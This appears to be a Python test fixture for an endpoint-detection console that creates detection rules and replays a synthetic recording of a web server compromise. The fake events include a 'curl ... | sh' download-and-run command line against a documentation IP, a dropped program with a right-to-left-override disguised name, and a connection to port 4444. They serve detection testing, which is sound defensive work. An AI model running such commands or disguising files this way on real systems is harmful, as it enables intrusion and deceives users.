"""What the console's tests find on their node: devices, rules, policies, a day of detections.

As a program it is how a browser test takes the node away and brings it back:
    python3 console_world.py DIRECTORY stop|start
"""

import datetime
import io
import json
import os
import pathlib
import sys
import zipfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent.parent / "scripts"))
from demo_world import World, until  # noqa: E402

PASSWORD = "a long enough password"
FLOOD = 240        # More than a page of a list.
MANY_EVENTS = 1100  # More than a page of a device's events.
HOSTILE = "invoice\u202egpj.\u0007sh"

DROP_RULE = {
    "Name": "Program dropped to a temporary folder and run", "Severity": "High",
    "Description": "A file is written below a folder in /tmp and then executed.",
    "ObjectType": "DetectionRule", "SchemaVersion": 1, "OperatingSystems": [{"Name": "Linux"}],
    "Plugin": {"Name": "OpticsDetector"}, "Product": {"Name": "CylanceOPTICS"},
    "Tags": ["attack.execution", "attack.t1105", "attack.t1059.004"],
    "States": [
        {"Name": "Drop", "Scope": "Global", "Function": "a",
         "FieldOperators": {"a": {"Type": "StartsWithAny", "OperandType": "String", "Operands": [
             {"Source": "TargetFile", "Data": "Path"}, {"Source": "LiteralSet", "Data": ["/tmp/day-"]}]}},
         "Filters": [{"Type": "Event", "Data": {"Category": "File", "SubCategory": "", "Type": "Create"}}],
         "Actions": [{"Type": "AOI", "ItemName": "TargetFile", "Position": "PostActivation"}]},
        {"Name": "Run", "Scope": "Global", "Function": "a",
         "FieldOperators": {"a": {"Type": "StartsWithAny", "OperandType": "String", "Operands": [
             {"Source": "TargetProcessImageFile", "Data": "Path"}, {"Source": "LiteralSet", "Data": ["/tmp/day-"]}]}},
         "Filters": [{"Type": "Event", "Data": {"Category": "Process", "SubCategory": "", "Type": "Start"}}],
         "Actions": [{"Type": "AOI", "ItemName": "TargetProcess", "Position": "PostActivation"}]}],
    "Paths": [{"StateNames": ["Drop", "Run"]}],
}
FLOOD_RULE = """title: Flood of the day
description: Fires once for each line of the flood.
tags:
  - attack.impact
  - attack.t1499
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    CommandLine|startswith: 'flood-'
  condition: selection
level: low
"""
MEDIUM_RULE = 'process where event.action == "start" and process.name : "invoice*"'


class Recording:
    """Events of one host, newest last, all within the last hour."""

    def __init__(self):
        self.lines = []
        self.at = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(minutes=40)

    def add(self, category, action, process, **more):
        self.at += datetime.timedelta(milliseconds=17)
        types = {"start": "start", "create": "creation", "write": "change", "connect": "start", "lookup": "protocol"}
        self.lines.append({
            "@timestamp": self.at.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "event": {"category": category, "type": types.get(action, "info"), "action": action},
            "user": {"id": "33", "name": "www-data"}, "process": process, **more})

    def write(self, path):
        path.write_text("".join(json.dumps(line) + "\n" for line in self.lines), encoding="utf-8")


def process(pid, name, command, parent=None, folder="/usr/bin"):
    made = {"pid": pid, "name": name, "executable": f"{folder}/{name}", "command_line": command, "entity_id": f"day-{pid}"}
    if parent:
        made["parent"] = {key: parent[key] for key in ("pid", "name", "executable", "command_line", "entity_id")}
    return made


def record_day(path):
    """A web server is taken over: shell, download, dropped program, its children; and noise around it."""
    day = Recording()
    server = process(900, "nginx", "nginx: worker process", folder="/usr/sbin")
    shell = process(901, "sh", "sh -c 'curl http://203.0.113.7/x | sh'", server)
    curl = process(902, "curl", "curl -s http://203.0.113.7/x", shell)
    dropped = process(903, HOSTILE, f"./{HOSTILE} <b>--all</b>", shell, "/tmp/day-1")
    for each in (server, shell, curl):
        day.add("process", "start", each)
    day.add("dns", "lookup", curl, dns={"question": {"name": "bad.example", "type": "A"}})
    day.add("network", "connect", curl, source={"ip": "10.0.0.5", "port": 40000},
            destination={"ip": "203.0.113.7", "port": 443}, network={"transport": "tcp"})
    day.add("file", "create", curl, file={"path": f"/tmp/day-1/{HOSTILE}", "name": HOSTILE, "directory": "/tmp/day-1"})
    day.add("process", "start", dropped)
    for n in range(14):
        day.add("file", "create", dropped, file={"path": f"/var/tmp/out/{n}.bin", "name": f"{n}.bin", "directory": "/var/tmp/out"})
    for n in range(12):
        day.add("process", "start", process(910 + n, "id", f"id -u user{n}", dropped))
    day.add("network", "connect", dropped, source={"ip": "10.0.0.5", "port": 40001},
            destination={"ip": "198.51.100.9", "port": 4444}, network={"transport": "tcp"})
    for n in range(FLOOD):
        day.add("process", "start", process(2000 + n, "flood", f"flood-{n:05d} --number {n}", server))
    for n in range(MANY_EVENTS):
        day.add("file", "write", server, file={"path": f"/var/log/nginx/access.{n}.log", "name": f"access.{n}.log",
                                               "directory": "/var/log/nginx", "size": n})
    day.write(path)


def package_zip(text="#!/bin/sh\necho collected by a package\n"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("main.sh", text)
    return out.getvalue()


def make_content(api):
    """Rules, a rule set, policies, a package, an exception, people. Returns their ids."""
    drop = api.want("POST", "/api/v1/rules", {"language": "cae", "source": json.dumps(DROP_RULE, indent=2)})
    flood = api.want("POST", "/api/v1/rules", {"language": "sigma", "source": FLOOD_RULE})
    medium = api.want("POST", "/api/v1/rules", {
        "language": "eql", "name": "Invoice that is a program", "severity": "Medium",
        "description": "A program that calls itself an invoice.", "source": MEDIUM_RULE})
    package = api.want("POST", "/api/v1/packages?name=collect-triage&entry_point=main.sh&interpreter=sh", raw=package_zip(),
                       headers={"Content-Type": "application/zip"})
    plain = {"enabled": True, "notify": False, "exceptions": [], "packages": [], "responses": []}
    ruleset = api.want("POST", "/api/v1/rulesets", {
        "name": "Web servers", "description": "What web servers are watched for", "notification_message": "",
        # A response and a package that harm nobody: the detection shows what became of them.
        "rules": [{**plain, "rule_id": drop["id"], "responses": [{"action": "ApplicationLog", "argument": ""}],
                   "packages": [{"package_id": package["id"], "arguments": [], "timeout_s": 60}]},
                  *({**plain, "rule_id": rule["id"]} for rule in (flood, medium))]})
    policy = api.want("POST", "/api/v1/policies", {"name": "Web servers", "ruleset_id": ruleset["id"], "sensors": []})
    spare = api.want("POST", "/api/v1/policies", {"name": "Data bases", "ruleset_id": ruleset["id"], "sensors": []})
    for name, role in (("ann", "analyst"), ("eve", "read_only")):
        api.want("POST", "/api/v1/users", {"name": name, "password": PASSWORD, "role": role})
    return {"drop": drop["id"], "flood": flood["id"], "medium": medium["id"], "package": package["id"],
            "ruleset": ruleset["id"], "policy": policy["id"], "spare": spare["id"]}


def enrol(world, name, policy):
    token = world.api.want("POST", "/api/v1/enrolment-tokens", {"uses_max": 1, "policy_id": policy})["token"]
    world.enroll(name, token)


def seed(world):
    """Fills the node; returns what the tests have to know, which is also written to seed.json."""
    api = world.api
    ids = make_content(api)
    recording, nothing = world.dir / "day.ndjson", world.dir / "nothing.ndjson"
    nothing.write_text("")
    record_day(recording)
    # A device that is offline for the whole day.
    enrol(world, "silent", ids["spare"])
    world.start_agent("silent", replay=nothing)
    silent = world.online_device(name="silent")["id"]
    until("its policy", 30, lambda: "policy applied" in world.log_tail("silent", 200))
    world.stop("silent")
    enrol(world, "agent", ids["policy"])
    # Once without events, so that it has its policy before they come.
    world.start_agent("agent", replay=nothing)
    until("the policy", 30, lambda: "policy applied" in world.log_tail("agent", 200))
    world.stop("agent")
    world.start_agent("agent", replay=recording)
    device = until("the device", 30, lambda: next((
        d["id"] for d in api.want("GET", "/api/v1/devices")["items"] if d["status"] == "online" and d["id"] != silent), None))

    def arrived(rule, least):
        found = api.want("GET", f"/api/v1/detections?rule={ids[rule]}&limit=1")
        return found["items"][0]["id"] if found["total"] >= least else None
    ids["detection"] = until("the detection of the drop", 60, lambda: arrived("drop", 1))
    until("the invoice", 60, lambda: arrived("medium", 1))
    until("the flood", 90, lambda: arrived("flood", FLOOD))
    ids |= {"device": device, "silent": silent, "flood_size": FLOOD, "many_events": MANY_EVENTS, "password": PASSWORD,
            "process": "day-903"}
    (world.dir / "seed.json").write_text(json.dumps(ids))
    return ids


def sleeper(world, name="victim"):
    """A process of this machine that a command may end; stopped with the world otherwise."""
    return world.spawn(name, ["sleep", "600"]).pid


def main():
    world = World(sys.argv[1], os.environ.get("VEDETTE_PRESET", "release"))
    if sys.argv[2] == "stop":
        world.stop("node")
    elif sys.argv[2] == "start":
        world.start_node()
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
